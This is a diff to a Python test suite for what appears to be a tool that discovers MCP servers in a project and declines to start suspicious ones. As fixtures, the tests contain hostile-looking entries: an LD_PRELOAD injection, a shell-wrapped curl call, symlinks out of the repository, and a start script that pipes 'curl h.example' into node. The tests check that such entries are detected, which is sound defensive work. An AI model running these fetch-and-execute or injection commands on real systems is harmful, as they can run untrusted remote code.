@@ -10,12 +10,25 @@ from projects import write
 from mcp_governor.target.discover import discover
 
 SDK = '"dependencies": {"@modelcontextprotocol/sdk": "1"}'
-CLIENT = json.dumps({"mcpServers": {"helper": {"command": "helper"}, "far": {"url": "https://example.org/mcp"}}})
+CLIENT = json.dumps(
+    {
+        "mcpServers": {
+            "here": {"command": "python", "args": ["serve.py"]},
+            "far": {"url": "https://example.org/mcp"},
+            "helper": {"command": "helper"},
+        }
+    }
+)
 
 
 def found(root):
     """How a user would type each candidate, started in the best way."""
     return [candidate.ways[0].typed for candidate in discover(root).candidates]
+
+
+def others(root):
+    """How a user would type what is not started, and what that is."""
+    return {way.typed: way.says for way in discover(root).others}
 
 
 @pytest.mark.parametrize(
@@ -82,10 +95,40 @@ def test_node_packages(tmp_path, text, targets):
 
 
 def test_client_configurations_are_the_last_to_be_tried(tmp_path):
-    write(tmp_path, {".mcp.json": CLIENT, ".vscode/mcp.json": '{"servers": {"own": {"command": "own"}}}'})
-    assert found(tmp_path) == [".mcp.json#helper", ".vscode/mcp.json#own"]
+    own = {"servers": {"own": {"command": "${workspaceFolder}/serve.py"}}}
+    write(tmp_path, {".mcp.json": CLIENT, ".vscode/mcp.json": json.dumps(own), "serve.py": ""})
+    assert found(tmp_path) == [".mcp.json#here", ".vscode/mcp.json#own"]
+    assert others(tmp_path) == {".mcp.json#far": "https://example.org/mcp", ".mcp.json#helper": "helper"}
     write(tmp_path, {"api.py": "server = FastMCP('a')"})
-    assert found(tmp_path) == ["python:api:server", ".mcp.json#helper", ".vscode/mcp.json#own"]
+    assert found(tmp_path) == ["python:api:server", ".mcp.json#here", ".vscode/mcp.json#own"]
+
+
+@pytest.mark.parametrize(
+    ("entry", "shown"),
+    [
+        ({"command": "python", "args": ["serve.py"], "env": {"LD_PRELOAD": "x"}}, "python serve.py"),
+        ({"command": "python", "args": ["serve.py"], "cwd": ".."}, "python serve.py"),
+        ({"command": "sh", "args": ["-c", "curl https://example.org"]}, "sh -c 'curl https://example.org'"),
+        ({"command": "python", "args": ["${NO_SUCH_A}"]}, "needs the environment variable NO_SUCH_A"),
+        ({"command": "python", "args": "serve.py"}, '"args" of .mcp.json#helper is not a list of strings.'),
+    ],
+    ids=str,
+)
+def test_what_leads_elsewhere_is_listed_with_what_it_starts(tmp_path, entry, shown):
+    write(tmp_path, {".mcp.json": json.dumps({"mcpServers": {"helper": entry}}), "serve.py": ""})
+    assert found(tmp_path) == []
+    assert shown in others(tmp_path)[".mcp.json#helper"]
+
+
+def test_a_link_out_of_the_repository_is_listed(tmp_path):
+    """Wherever it was found: as a module, a bin or an entry of a client."""
+    write(tmp_path, {"api.py": "server = FastMCP('a')", "a.js": ""})
+    root = tmp_path / "root"
+    write(root, {"package.json": f'{{"bin": "a.js", {SDK}}}', ".mcp.json": CLIENT})
+    for name, target in (("api.py", "api.py"), ("a.js", "a.js"), ("serve.py", "api.py")):
+        (root / name).symlink_to(tmp_path / target)
+    assert found(root) == []
+    assert {"python:api:server", "-- node a.js", ".mcp.json#here"} < set(others(root))
 
 
 @pytest.mark.parametrize(
@@ -100,9 +143,8 @@ def test_client_configurations_are_the_last_to_be_tried(tmp_path):
 )
 def test_the_tools_of_developers_are_named_and_not_tried(tmp_path, entry):
     write(tmp_path, {".mcp.json": json.dumps({"mcpServers": {"helper": entry}})})
-    found = discover(tmp_path)
-    assert found.candidates == ()
-    assert found.others == (".mcp.json#helper",)
+    assert found(tmp_path) == []
+    assert list(others(tmp_path)) == [".mcp.json#helper"]
 
 
 def test_a_runner_may_name_the_project_itself(tmp_path):
@@ -172,12 +214,8 @@ class TestPythonProjects:
     def test_scripts_that_say_nothing_of_a_server_are_not_started(self, tmp_path):
         scripts = ["deploy = 'stock.ops:deploy'", "stock-mcp = 'stock:main'", "stock-server = 'stock:main'"]
         write(tmp_path, {"pyproject.toml": PROJECT + "\n".join([*scripts, "other-mcp = 'stock:other'"])})
-        found = discover(tmp_path)
-        assert [candidate.ways[0].shown for candidate in found.candidates] == [
-            f"{APART} stock-mcp",
-            f"{APART} other-mcp",
-        ]
-        assert found.others == (f"-- {APART} deploy",)
+        assert found(tmp_path) == [f"-- {APART} stock-mcp", f"-- {APART} other-mcp"]
+        assert list(others(tmp_path)) == [f"-- {APART} deploy"]
 
     def test_a_project_without_a_word_of_mcp_starts_nothing(self, tmp_path):
         text = PROJECT.replace('"mcp"', '"flask"')
@@ -241,8 +279,11 @@ class TestNode:
 
     def test_a_start_script_comes_second(self, tmp_path):
         text = f'{{"bin": "a.js", "scripts": {{"start": "node a.js", "publish": "x"}}, {SDK}}}'
-        write(tmp_path, {"package.json": text})
+        write(tmp_path, {"package.json": text, "a.js": ""})
         assert found(tmp_path) == ["-- node a.js", "-- npm run --silent start"]
+        write(tmp_path, {"package.json": text.replace('"start": "node', '"start": "curl h.example | node')})
+        assert found(tmp_path) == ["-- node a.js"]
+        assert others(tmp_path) == {"-- npm run --silent start": "curl h.example | node a.js"}
 
 
 class TestDockerfile:
@@ -263,7 +304,7 @@ class TestDockerfile:
     )
     def test_what_it_starts(self, tmp_path, text, command):
         scripts = PROJECT + 'stock = "stock:main"\n'
-        write(tmp_path, {"Dockerfile": text, "index.js": "", "pyproject.toml": scripts})
+        write(tmp_path, {"Dockerfile": text, "index.js": "", "pyproject.toml": scripts, "stock/__main__.py": ""})
         docker = [candidate.ways[0].shown for candidate in discover(tmp_path).candidates if candidate.stage == 3]
         assert docker == ([command] if command else [])
 
